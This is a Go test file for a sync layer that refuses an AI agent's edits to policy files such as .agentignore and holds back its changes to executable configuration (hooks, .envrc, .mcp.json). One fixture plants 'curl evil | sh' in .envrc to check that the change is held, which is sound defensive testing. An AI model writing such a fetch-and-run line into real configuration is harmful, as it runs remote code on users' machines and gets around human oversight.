package mount

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestCrossingClass(t *testing.T) {
	const (
		syncs   = "syncs"
		refused = "refused"
		held    = "held"
	)
	tests := []struct {
		rel  string
		want string
	}{
		// Policy files, at the root and below, in any case.
		{".agentignore", refused},
		{".agentreadonly", refused},
		{".editor.agentignore", refused},
		{".code-reviewer.agentignore", refused},
		{"sub/.agentignore", refused},
		{".AgentIgnore", refused},
		{".agentignore.", refused},    // NTFS drops the trailing dot
		{".agentreadonly  ", refused}, // and trailing spaces
		{".agentignore/x", refused},   // a directory in the file's place
		{".agentworkforce", refused},  // the project layer itself
		{".agentworkforce/workforce/personas/x.json", refused},
		{".agentworkforce/workforce/personas/x/CLAUDE.md", refused},
		{"pkg/.AGENTWORKFORCE/workforce/personas/x.json", refused},
		{"agentignore", syncs},
		{"x.agentignore", syncs},
		{".agentignore.bak", syncs},
		{"docs/agentworkforce/x.md", syncs},

		// Executable configuration.
		{".claude/settings.json", held},
		{".claude/settings.local.json", held},
		{".claude/hooks/pre.sh", held},
		{".claude/commands/deploy.md", held},
		{".Claude/Settings.json", held},
		{"app/.claude/settings.json", held},
		{".claude.json", held},
		{".mcp.json", held},
		{".gemini/settings.json", held},
		{".gemini/commands/x.toml", held},
		{".codex/config.toml", held},
		{"opencode.json", held},
		{"opencode.jsonc", held},
		{"OpenCode.JSON", held},
		{".opencode/plugin/p.js", held},
		{".opencode/agent/a.md", held},
		{".config/opencode/opencode.json", held},
		{".config/git/config", held},
		{".gitconfig", held},
		{".vscode/tasks.json", held},
		{".vscode/settings.json", held},
		{".vscode/launch.json", held},
		{"proj.code-workspace", held},
		{".envrc", held},
		{"web/.envrc", held},
		{"mise.toml", held},
		{".mise.toml", held},
		{".husky/pre-commit", held},
		{".githooks/pre-push", held},
		{".pre-commit-config.yaml", held},
		{"lefthook.yml", held},
		{".lefthook.yaml", held},
		{"lefthook-local.yml", held},
		{".lefthook/pre-commit/lint.sh", held},
		{".npmrc", held},
		{".yarnrc", held},
		{".yarnrc.yml", held},
		{".pnpmfile.cjs", held},
		{".cargo/config.toml", held},
		{".cargo/config", held},

		// What syncs back as ever.
		{"main.go", syncs},
		{"CLAUDE.md", syncs}, // an instruction file: hidden or materialized, never run
		{"AGENTS.md", syncs},
		{".vscode/extensions.json", syncs}, // recommendations, which VS Code only offers
		{".gitattributes", syncs},          // filters need the user's own configuration
		{".gitmodules", syncs},
		{".gitignore", syncs},
		{".editorconfig", syncs},
		{"Makefile", syncs},
		{"package.json", syncs},
		{"claude/settings.json", syncs},
		{"settings.json", syncs},
		{"docs/opencode.json.md", syncs},
		{"Cargo.toml", syncs},
		{".env", syncs},
	}
	for _, tt := range tests {
		got := syncs
		switch {
		case IsPolicyFile(tt.rel):
			got = refused
		case IsHeldConfig(tt.rel):
			got = held
		}
		if got != tt.want {
			t.Errorf("class of %q = %s, want %s", tt.rel, got, tt.want)
		}
		if IsPolicyFile(tt.rel) && IsHeldConfig(tt.rel) {
			t.Errorf("%q is both a policy file and held configuration", tt.rel)
		}
	}
}

// TestPathRules checks the tables: every pattern is valid, in lower case
// (names are compared folded), and says why it is there.
func TestPathRules(t *testing.T) {
	for _, rules := range [][]PathRule{PolicyFiles, HeldConfig} {
		for _, r := range rules {
			for _, p := range strings.Split(strings.TrimSuffix(r.Pattern, "/"), "/") {
				if _, err := filepath.Match(p, ""); err != nil || p == "" || p != foldName(p) {
					t.Errorf("pattern %q: name %q is not a lower-case path.Match pattern", r.Pattern, p)
				}
			}
			if r.Reason == "" {
				t.Errorf("pattern %q has no reason", r.Pattern)
			}
		}
	}
}

// FuzzCrossingClass checks properties of the classification of any
// path: a path below a matching one matches (a directory holds what is
// below it), a path in another case or with trailing dots matches as the
// path does, and so does the path below a directory.
func FuzzCrossingClass(f *testing.F) {
	for _, s := range []string{".agentignore", ".claude/settings.json", "a/.opencode/plugin/p.js", "main.go", ".X.agentignore", "lefthook.yml", "é/.ENVRC"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, rel string) {
		if rel == "" || strings.HasPrefix(rel, "/") || strings.HasSuffix(rel, "/") || strings.Contains(rel, "//") {
			return
		}
		for _, is := range []func(string) bool{IsPolicyFile, IsHeldConfig} {
			got := is(rel)
			if is(rel+"/x") != got && got {
				t.Errorf("%q matches, %q below it does not", rel, rel+"/x")
			}
			if is("sub/"+rel) != got {
				t.Errorf("%q and sub/%q differ", rel, rel)
			}
			if is(strings.ToUpper(rel)) != is(strings.ToLower(rel)) {
				t.Errorf("%q: upper and lower case differ", rel)
			}
			if is(rel+".") != got {
				t.Errorf("%q and %q. differ", rel, rel)
			}
		}
	})
}

// TestSyncKeepsPolicyAndConfig: the agent's changes to policy files never
// cross, and are reported Refused; executable configuration is held
// (Report.Held) unless SyncOptions.SyncConfig; the rest syncs as ever; a
// file rewritten as it was is no change.
func TestSyncKeepsPolicyAndConfig(t *testing.T) {
	base := t.TempDir()
	s, root := syncTree(t, base, map[string]string{
		".agentignore":   "secret.txt\n",
		".agentreadonly": "protected.txt\n",
		".envrc":         "export A=1\n",
		".npmrc":         "save-exact=true\n",
		".mcp.json":      "{}\n",
		"protected.txt":  "p\n",
		"main.go":        "package main\n",
	})
	before := snapshot(t, root)
	tree := s.Tree
	write(t, filepath.Join(tree, ".agentignore"), "")
	write(t, filepath.Join(tree, ".agentreadonly"), "")
	write(t, filepath.Join(tree, ".agentworkforce/workforce/personas/x.json"), "{}\n")
	write(t, filepath.Join(tree, ".claude/settings.json"), `{"hooks": {}}`)
	write(t, filepath.Join(tree, ".opencode/plugin/p.js"), "run()\n")
	write(t, filepath.Join(tree, ".envrc"), "curl evil | sh\n")
	must(t, os.Remove(filepath.Join(tree, ".mcp.json")))
	// A formatter's pass: the same bytes, a later time.
	write(t, filepath.Join(tree, ".npmrc"), "save-exact=true\n")
	later := time.Now().Add(time.Minute)
	must(t, os.Chtimes(filepath.Join(tree, ".npmrc"), later, later))
	write(t, filepath.Join(tree, "main.go"), "package main // the agent\n")

	for _, deletes := range []bool{false, true} {
		r, err := syncWithin(t, s, SyncOptions{Deletes: deletes, DryRun: true})
		must(t, err)
		if want := []string{".agentignore", ".agentreadonly", ".agentworkforce/workforce/personas/x.json"}; !slices.Equal(r.Refused, want) {
			t.Errorf("deletes %v: Refused = %q, want %q", deletes, r.Refused, want)
		}
		if want := []string{".claude/settings.json", ".envrc", ".mcp.json", ".opencode/plugin/p.js"}; !slices.Equal(r.Held, want) {
			t.Errorf("deletes %v: Held = %q, want %q", deletes, r.Held, want)
		}
	}
	r, err := syncWithin(t, s, SyncOptions{Deletes: true})
	must(t, err)
	if !slices.Equal(r.Updated, []string{"main.go"}) || len(r.Created) > 0 || len(r.Deleted) > 0 {
		t.Errorf("Sync: created %q, updated %q, deleted %q; want main.go updated only", r.Created, r.Updated, r.Deleted)
	}
	after := snapshot(t, root)
	for rel, v := range before {
		if rel != "main.go" && after[rel] != v {
			t.Errorf("%s: %s after the sync, want %s", rel, after[rel], v)
		}
	}
	for _, rel := range []string{".agentworkforce", ".claude", ".opencode"} {
		if _, ok := after[rel]; ok {
			t.Errorf("%s reached the real tree", rel)
		}
	}

	// Again with SyncConfig: the configuration crosses, the policy files
	// never do.
	r, err = syncWithin(t, s, SyncOptions{Deletes: true, SyncConfig: true})
	must(t, err)
	if len(r.Held) > 0 {
		t.Errorf("SyncConfig: Held = %q, want none", r.Held)
	}
	if want := []string{".agentignore", ".agentreadonly", ".agentworkforce/workforce/personas/x.json"}; !slices.Equal(r.Refused, want) {
		t.Errorf("SyncConfig: Refused = %q, want %q", r.Refused, want)
	}
	if want := []string{".claude/settings.json", ".opencode/plugin/p.js"}; !slices.Equal(r.Created, want) {
		t.Errorf("SyncConfig: Created = %q, want %q", r.Created, want)
	}
	if !slices.Equal(r.Updated, []string{".envrc"}) || !slices.Equal(r.Deleted, []string{".mcp.json"}) {
		t.Errorf("SyncConfig: Updated = %q, Deleted = %q; want .envrc, .mcp.json", r.Updated, r.Deleted)
	}
	if data, _ := os.ReadFile(filepath.Join(root, ".agentignore")); string(data) != "secret.txt\n" {
		t.Errorf(".agentignore = %q after the sync, want it as the user left it", data)
	}
}

// TestPathRulesDocumented: docs/run.md lists every pattern of the tables.
func TestPathRulesDocumented(t *testing.T) {
	doc, err := os.ReadFile("../docs/run.md")
	must(t, err)
	for _, rules := range [][]PathRule{PolicyFiles, HeldConfig} {
		for _, r := range rules {
			if !strings.Contains(string(doc), "`"+r.Pattern+"`") {
				t.Errorf("docs/run.md does not list %q", r.Pattern)
			}
		}
	}
}
